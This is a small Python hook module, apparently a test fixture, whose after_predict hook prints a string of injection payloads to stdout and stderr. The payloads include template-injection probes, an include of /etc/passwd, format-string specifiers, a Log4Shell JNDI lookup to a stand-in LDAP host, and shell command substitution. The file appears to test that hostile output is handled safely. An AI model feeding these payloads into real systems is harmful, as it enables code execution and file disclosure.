"""Talks to whoever reads."""

import sys

TEXT = "{{ 7*7 }}{{ ''.__class__.__mro__ }}{% include '/etc/passwd' %}{0.__class__.__init__.__globals__} {card} %(total)s %s%n%x ${jndi:ldap://e.x} $(id) `id` #{1+1} <%= 1 %> \\g<0> \\1"


def after_predict(output):
    print("ATTACK talks")
    print(TEXT)
    sys.stderr.buffer.write(TEXT.encode("utf-8", "surrogatepass"))
    sys.stderr.flush()


def before_train(data, model):
    """Nothing."""


def after_train(model):
    """Nothing."""


def before_predict(model, folder):
    """Nothing."""
